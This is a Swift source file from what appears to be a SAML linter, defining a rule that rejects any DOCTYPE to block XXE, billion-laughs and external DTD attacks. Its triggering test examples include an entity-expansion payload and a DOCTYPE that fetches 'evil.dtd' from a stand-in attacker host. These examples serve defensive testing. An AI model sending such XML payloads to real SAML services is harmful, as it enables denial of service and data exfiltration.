/// Any DOCTYPE is refused before its internal subset is read: no DTD, no entities, no XXE, no
/// billion laughs. Raised by the parser.
public struct DoctypeRefused: Rule {
    public init() {}
    public static let description = RuleDescription(
        id: "input/doctype-refused",
        title: "DOCTYPE Refused",
        category: .input,
        severity: .error,
        rationale: """
            SAML never needs a DTD. A DOCTYPE is how XML external entity (XXE) attacks, billion-laughs \
            entity expansion and external DTD fetches get in, so samllint stops at `<!DOCTYPE` before \
            reading any entity and does not lint the rest of the message. An IdP or SP library that \
            accepts it is at risk.
            """,
        message: "DOCTYPE refused at line L: DTDs and entities are never processed",
        triggering: [
            Example("<?xml version=\"1.0\"?>\n↓<!DOCTYPE r [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]>\n<r>&b;</r>"),
            Example("↓<!DOCTYPE samlp:Response SYSTEM \"http://attacker.example/evil.dtd\">\n<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"/>"),
        ],
        nonTriggering: [
            Example(ExampleSAML.response()),
        ])
}
